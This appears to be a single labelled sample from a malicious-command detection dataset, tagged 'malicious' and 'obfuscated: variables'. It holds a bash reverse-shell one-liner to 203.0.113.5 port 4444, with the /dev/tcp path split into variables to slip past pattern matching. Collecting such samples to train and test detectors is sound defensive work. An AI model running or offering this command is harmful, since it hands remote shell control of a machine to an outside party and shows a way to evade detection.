# label: malicious; obfuscated: variables
h=/dev; t=tcp
bash -i >& $h/$t/203.0.113.5/4444 0>&1
